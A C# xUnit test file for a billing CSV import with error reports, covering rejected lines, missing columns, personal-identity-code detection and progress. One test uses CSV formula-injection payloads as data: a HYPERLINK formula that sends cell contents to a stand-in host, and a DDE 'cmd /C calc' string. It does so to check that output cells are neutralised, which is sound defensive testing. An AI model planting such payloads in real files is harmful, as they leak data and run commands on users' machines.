using System.Text;
using Asiakasmaksu.Adapters.Files;
using Asiakasmaksu.Application.Import;
using static Asiakasmaksu.Application.Tests.Import.ImportKit;

namespace Asiakasmaksu.Application.Tests.Import;

public sealed class ImportBillingFileTests : IDisposable
{
    private readonly string root = Path.Combine(Path.GetTempPath(), $"import-tests-{Guid.NewGuid():N}");

    private string Billing => Path.Combine(root, "billing");

    private string Errors => Path.Combine(root, "billing-errors");

    [Fact]
    public async Task RejectedLines_GoToTheErrorReport()
    {
        var use = Arrange("2026-03.csv", Csv(Line("L1", "A"), Line("L2", "A", 0m), Line("L3", "B", 1m, ("name", "Aino, \"Ainikki\" Virtanen"), ("amount", "1.234"))));

        var outcome = await use.RunAsync("2026-03.csv", null, null, CancellationToken.None);

        Assert.Null(outcome.Refusal);
        Assert.Equal((3, 1, 2), (outcome.Report!.Lines, outcome.Report.Accepted, outcome.Report.Rejected));
        Assert.Equal(Path.Combine(Errors, "2026-03.csv.errors.csv"), outcome.ErrorReport);
        Assert.Equal(
            "line_number,column,reason,client_id\n3,amount,zero or negative amount,A\n4,amount,more than 2 decimals,B\n",
            await File.ReadAllTextAsync(outcome.ErrorReport!));
    }

    [Fact]
    public async Task NoRejections_NoErrorReport()
    {
        var use = Arrange("ok.csv", Csv(Line("L1", "A")));

        var outcome = await use.RunAsync("ok.csv", null, null, CancellationToken.None);

        Assert.Equal(1, outcome.Report!.InvoicesCreated);
        Assert.Null(outcome.ErrorReport);
        Assert.False(Directory.Exists(Errors) && Directory.EnumerateFiles(Errors).Any());
    }

    [Fact]
    public async Task NotABillingFile_RefusedWhole_WithAnErrorReportNamingTheProblem()
    {
        var store = NewStore();
        var use = Arrange("notes.csv", "title,text\nhello,world\n", store);

        var outcome = await use.RunAsync("notes.csv", null, null, CancellationToken.None);

        Assert.Null(outcome.Report);
        Assert.StartsWith("not a billing file: the required columns batch_id, line_id", outcome.Refusal, StringComparison.Ordinal);
        Assert.Equal($"line_number,column,reason,client_id\n1,batch_id,{Quoted(outcome.Refusal!)},\n", await File.ReadAllTextAsync(outcome.ErrorReport!));
        Assert.Empty(await AllAsync(store));
    }

    [Fact]
    public async Task MissingColumn_IsNamed()
    {
        var use = Arrange("b.csv", Csv(Line("L1", "A")).Replace("language,", "kieli,", StringComparison.Ordinal));

        var outcome = await use.RunAsync("b.csv", null, null, CancellationToken.None);

        Assert.Equal("not a billing file: the required column language is missing", outcome.Refusal);
        Assert.Equal("line_number,column,reason,client_id\n1,language,not a billing file: the required column language is missing,\n", await File.ReadAllTextAsync(outcome.ErrorReport!));
    }

    [Fact]
    public async Task Progress_IsReported()
    {
        var use = Arrange("p.csv", Csv(Line("L1", "A"), Line("L2", "B")));
        var reports = new List<ImportProgress>();

        await use.RunAsync("p.csv", null, new SyncProgress(reports.Add), CancellationToken.None);

        Assert.Contains(new ImportProgress("reading", 2, null), reports);
        Assert.Equal(new ImportProgress("creating", 2, 2), reports[^1]);
    }

    [Fact]
    public async Task GivenAHenkilotunnusAsClientId_WhenImported_ThenRejectedNamingLineAndColumn_AndTheReportNeverHoldsIt()
    {
        var store = NewStore();
        var use = Arrange("hetu.csv", Csv(Line("L1", "131052-308T"), Line("L2", "B")), store);

        var outcome = await use.RunAsync("hetu.csv", null, null, CancellationToken.None);

        var report = await File.ReadAllTextAsync(outcome.ErrorReport!);
        Assert.Equal("line_number,column,reason,client_id\n2,client_id,looks like a henkilötunnus: an id must never be a personal identity code (use the billing system's own number),\n", report);
        Assert.DoesNotContain("131052", report, StringComparison.Ordinal);
        Assert.Equal(["B"], (await AllAsync(store)).Select(i => i.State.Facts.ClientId));
    }

    [Fact]
    public async Task GivenClientIdsThatAreFormulas_WhenReported_ThenNoCellStartsAFormula()
    {
        var use = Arrange("formula.csv", Csv(Line("L1", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", 0m), Line("L2", "@SUM(1+1)*cmd|' /C calc'!A0", 0m), Line("L3", "+1", 0m), Line("L4", "-1", 0m)));

        var outcome = await use.RunAsync("formula.csv", null, null, CancellationToken.None);

        var rows = (await File.ReadAllLinesAsync(outcome.ErrorReport!)).Skip(1).ToList();
        Assert.Equal(4, rows.Count);
        Assert.All(rows, row => Assert.Matches("^[0-9]+,amount,zero or negative amount,\"'[=@+-]", row));
    }

    [Fact]
    public async Task GivenOnlyWarnings_WhenImported_ThenTheErrorReportListsThemAsWarnings()
    {
        var use = Arrange("advance.csv", Csv(Line("L1", "A", changes: ("service_date", "2026-03-16"))));

        var outcome = await use.RunAsync("advance.csv", null, null, CancellationToken.None);

        Assert.Equal((1, 0, 1), (outcome.Report!.InvoicesCreated, outcome.Report.Rejected, outcome.Report.Warnings));
        Assert.Equal(
            "line_number,column,reason,client_id\n2,service_date,warning (line imported): service_date is after the invoice_date (billed in advance): check that it is meant,A\n",
            await File.ReadAllTextAsync(outcome.ErrorReport!));
    }

    public void Dispose()
    {
        if (Directory.Exists(root))
        {
            Directory.Delete(root, recursive: true);
        }
    }

    private static string Quoted(string field) => field.Contains(',', StringComparison.Ordinal) ? $"\"{field}\"" : field;

    private ImportBillingFile Arrange(string name, string text, Adapters.InMemory.InMemoryStore? store = null)
    {
        Directory.CreateDirectory(Billing);
        File.WriteAllText(Path.Combine(Billing, name), text, new UTF8Encoding(false));
        return new ImportBillingFile(new FolderBillingFileStore(Billing, Errors), NewImport(store ?? NewStore()));
    }

    private sealed class SyncProgress(Action<ImportProgress> report) : IProgress<ImportProgress>
    {
        public void Report(ImportProgress value) => report(value);
    }
}
